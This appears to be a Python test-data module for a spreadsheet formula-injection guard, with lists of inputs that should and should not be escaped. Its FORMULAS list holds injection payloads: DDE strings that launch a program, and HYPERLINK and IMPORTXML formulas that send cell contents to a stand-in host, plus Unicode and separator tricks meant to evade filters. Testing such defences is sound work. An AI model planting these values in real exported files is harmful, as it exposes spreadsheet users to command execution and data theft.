"""Texts that a spreadsheet takes for formulas, and texts that it does not."""

from __future__ import annotations

import polars as pl

from assay.write.spreadsheet_text import guarded

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")",
    "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    '"=1+1',
    "\u200b=1+1",
    "\ufeff=1+1",
    "x;=1+1",
    "x\n=1+1",
    "x\t=1+1",
    "x\r=1+1",
    "x;\u00a0\"'=1+1",
    "-",
    "-1.5 mg",
    "+49 30 123456",
    "=",
]  # fmt: skip
PLAIN = [
    "CT",
    "2,4-D",
    "'s-Hertogenbosch",
    "E. coli",
    "a-b",
    "1=1",
    "5' pipe",
    "x; y",
    "x\ny",
    "-1.5",
    "+7",
    "-1e-9",
    ".5",
]
# Safe already; but one apostrophe more, so that they can be told from those that got one.
GUARDED = ["'=1+1", "''=1+1", "'\t1"]


def guard(text: str) -> str:
    return str(pl.select(guarded(pl.lit(text))).item())
